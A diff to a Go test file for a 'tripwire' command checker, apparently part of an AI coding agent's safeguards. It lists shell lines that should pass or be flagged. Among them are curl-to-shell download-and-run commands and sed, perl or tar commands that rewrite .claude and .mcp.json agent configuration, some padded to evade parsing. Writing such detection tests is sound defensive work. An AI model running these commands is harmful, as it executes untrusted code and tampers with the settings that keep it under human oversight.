@@ -1,6 +1,7 @@
 package tripwire_test
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/nacre-dev/nacre/internal/tripwire"
@@ -88,4 +89,18 @@ func TestWordsOfADownloadInAScript(t *testing.T) {
 		`curl a.example | xargs -I{} sh -c "bash -c '{}'"`, `curl a.example | xargs -I{} sh -c 'echo {} | sh'`, `curl a.example | xargs -I% sh -c %`,
 	)
 	untouched(t, `curl -s x | xargs -n1 sh -c 'echo "$0"'`, `cat list | xargs -I{} sh -c 'echo {}'`)
+}
+
+// M-58: a program behind -e has letters of its own.
+func TestLettersOfAProgramAreNoOption(t *testing.T) {
+	untouched(t,
+		`sed -e's/hi/x/' .git/config`, `sed -ne'/i/p' .claude/settings.json`, `sed -fscript.sed .claude/settings.json`, `perl -ne'print if /i/' .claude/settings.json`, `perl -E'say 1 if /i/' .mcp.json`,
+	)
+	touched(t, "config_write:contain", `sed -ie s/a/b/ .mcp.json`, `sed -Ei s/a/b/ .mcp.json`, `perl -pi -e s/a/b/ .mcp.json`, `perl -pie s/a/b/ .mcp.json`, `sed -i.bak s/a/b/ .mcp.json`)
+}
+
+// An archiver of many folders is read in one pass.
+func TestManyOptionsOfAnArchiverAreRead(t *testing.T) {
+	untouched(t, "tar "+strings.Repeat("-C a ", 40_000))
+	touched(t, "config_write:contain", "tar "+strings.Repeat("-C a ", 40_000)+"-C .claude -x")
 }
